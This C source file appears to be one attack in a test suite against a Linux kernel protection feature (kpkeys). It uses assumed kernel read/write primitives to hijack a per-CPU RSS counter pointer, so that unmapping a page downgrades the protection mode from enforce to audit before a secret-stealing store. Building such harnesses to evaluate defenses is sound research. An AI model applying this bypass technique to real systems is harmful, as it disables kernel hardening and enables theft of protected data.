// SPDX-License-Identifier: GPL-2.0-only
/*
 * Attacks by way of what else runs in an open section: statistics, whose
 * counters are found by pointers in ordinary memory.
 */
#include <errno.h>
#include <sys/mman.h>

#include "attack.h"
#include "list.h"
#include "objects.h"

#define COUNTER_SIZE	40	/* of a struct percpu_counter */
#define COUNTER_POINTER	32
#define COUNTERS	4	/* of an mm; their int's lie side by side */
#define MM_WORDS	256
#define ANON_PAGES	1	/* which of them */
#define MODE_ENFORCE	2	/* first word of kpkeys_state; one less is audit */

/* Where the pointer to a per-CPU counter of anonymous pages is. */
static uint64_t find_counter(uint64_t mm)
{
	const int step = COUNTER_SIZE / sizeof(uint64_t);
	uint64_t words[MM_WORDS];
	int i, n;

	kread(mm, words, sizeof(words));
	for (i = 0; i + COUNTERS * step < MM_WORDS; i++) {
		for (n = 1; n < COUNTERS && words[i] &&
			    words[i + n * step] == words[i] + n * sizeof(int); n++)
			;
		if (n == COUNTERS)
			return mm + (i + ANON_PAGES * step) * sizeof(uint64_t);
	}
	return 0;
}

/* What CPU 0 adds to a per-CPU address. */
static uint64_t offset_of_cpu(void)
{
	return ksymbol_cpu("runqueues", 0) - ksymbol("runqueues");
}

/* Unmapping a page subtracts one, inside the section. */
static int count_down(uint64_t target)
{
	void *page = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE,
			  MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
	uint64_t pointer, old;
	struct task task;
	int err;

	if (ktask(0, &task))
		return -1;
	pointer = find_counter(task.mm);
	if (!pointer)
		return -1;
	old = kread64(pointer);
	err = kwrite64(pointer, target - offset_of_cpu());
	munmap(page, PAGE_SIZE);
	return kwrite64(pointer, old) ?: err;
}

/* The mode is put back: audit lets that through. */
static int store_after_counting(const void *how, uint64_t slot, uint64_t value)
{
	uint64_t mode = ksymbol("kpkeys_state");
	int was = 0, err;

	stay_on_cpu(0);
	if (mode)
		kread(mode, &was, sizeof(was));
	if (was == MODE_ENFORCE && count_down(mode))
		return -ENOENT;
	err = plain_store(how, slot, value);
	if (was == MODE_ENFORCE)
		kwrite(mode, &was, sizeof(was));
	return err;
}

enum outcome rss_counter(void)
{
	return steal_secret_by(store_after_counting, NULL);
}
